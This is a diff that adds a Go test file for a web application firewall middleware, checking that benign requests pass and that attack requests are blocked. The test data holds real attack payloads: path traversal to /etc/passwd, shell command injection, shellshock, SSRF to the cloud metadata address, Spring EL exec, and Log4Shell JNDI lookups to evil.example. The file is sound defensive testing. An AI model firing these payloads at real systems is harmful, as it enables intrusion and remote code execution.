@@ -0,0 +1,106 @@
+package middleware
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestInjectionFamilies(t *testing.T) {
+	const jsonType = "application/json"
+
+	tests := []struct {
+		name     string
+		target   string
+		header   string // User-Agent
+		body     string
+		paranoia int
+		want     int
+	}{
+		// Benign
+		{"relative link", "/pages?next=" + url.QueryEscape("../index.html"), "", ``, 1, 200},
+		{"webhook", "/hooks", "", `{"url": "https://hooks.example.com/in/42"}`, 1, 200},
+		{"prose", "/comments", "", `{"text": "Tom & Jerry; cat lovers, {{ name }} and ${price}"}`, 1, 200},
+		{"js snippet", "/gists", "", `{"code": "setTimeout(function () { run() }, 10)"}`, 1, 200},
+		{"browser", "/", "Mozilla/5.0 (X11; Linux x86_64)", ``, 1, 200},
+
+		// Path traversal
+		{"encoded traversal", "/download?file=%2e%2e%2f%2e%2e%2fapp.db", "", ``, 1, 403},
+		{"double encoded", "/download?file=..%255c..%255cboot.ini", "", ``, 1, 403},
+		{"passwd in body", "/render", "", `{"template": "/etc/passwd"}`, 1, 403},
+		{"overlong", "/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/app.db", "", ``, 1, 403},
+		{"single step at PL2", "/pages?next=" + url.QueryEscape("../index.html"), "", ``, 2, 403},
+
+		// Command injection
+		{"ping host", "/ping?host=" + url.QueryEscape("8.8.8.8; cat /etc/hosts"), "", ``, 1, 403},
+		{"subshell", "/lookup", "", `{"domain": "$(whoami).example.com"}`, 1, 403},
+		{"shellshock", "/cgi-bin/status", "() { :; }; /bin/bash -c 'id'", ``, 1, 403},
+
+		// SSRF
+		{"metadata", "/fetch?url=" + url.QueryEscape("http://169.254.169.254/latest/meta-data/"), "", ``, 1, 403},
+		{"internal webhook", "/hooks", "", `{"url": "http://10.0.0.12:8500/v1/kv/"}`, 1, 403},
+		{"decimal loopback", "/fetch?url=http://2130706433/", "", ``, 1, 403},
+
+		// Template injection
+		{"jinja probe", "/greet?name=" + url.QueryEscape("{{7*7}}"), "", ``, 1, 403},
+		{"spring EL", "/search", "", `{"q": "${T(java.lang.Runtime).getRuntime().exec('id')}"}`, 1, 403},
+
+		// JNDI
+		{"log4shell header", "/", "${jndi:ldap://evil.example/a}", ``, 1, 403},
+		{"obfuscated in query", "/search?q=" + url.QueryEscape("${${lower:j}ndi:rmi://evil.example/a}"), "", ``, 1, 403},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), ParanoiaLevel: tt.paranoia})
+			handler := si.Middleware(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+
+			method := http.MethodGet
+			if tt.body != "" {
+				method = http.MethodPost
+			}
+			req := httptest.NewRequest(method, tt.target, strings.NewReader(tt.body))
+			if tt.body != "" {
+				req.Header.Set("Content-Type", jsonType)
+			}
+			if tt.header != "" {
+				req.Header.Set("User-Agent", tt.header)
+			}
+			rr := httptest.NewRecorder()
+			handler.ServeHTTP(rr, req)
+			if rr.Code != tt.want {
+				t.Errorf("expected %d, got %d", tt.want, rr.Code)
+			}
+		})
+	}
+}
+
+func TestInjectionCategoriesToggle(t *testing.T) {
+	attacks := map[string]string{
+		"lfi":  "/download?file=../../../etc/passwd",
+		"cmdi": "/ping?host=" + url.QueryEscape("x; whoami"),
+		"ssrf": "/fetch?url=" + url.QueryEscape("http://169.254.169.254/"),
+		"ssti": "/greet?name=" + url.QueryEscape("{{7*7}}"),
+		"jndi": "/search?q=" + url.QueryEscape("${jndi:dns://evil.example/a}"),
+	}
+	for category, target := range attacks {
+		for _, enabled := range []bool{true, false} {
+			categories := map[string]bool{"lfi": true, "cmdi": true, "ssrf": true, "ssti": true, "jndi": true}
+			categories[category] = enabled
+			si := NewSecurityInspector(InspectorOptions{Rules: DefaultRules(), Categories: categories})
+			handler := si.Middleware(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
+
+			rr := httptest.NewRecorder()
+			handler.ServeHTTP(rr, httptest.NewRequest(http.MethodGet, target, nil))
+			want := http.StatusForbidden
+			if !enabled {
+				want = http.StatusOK
+			}
+			if rr.Code != want {
+				t.Errorf("%s enabled=%v: expected %d, got %d", category, enabled, want, rr.Code)
+			}
+		}
+	}
+}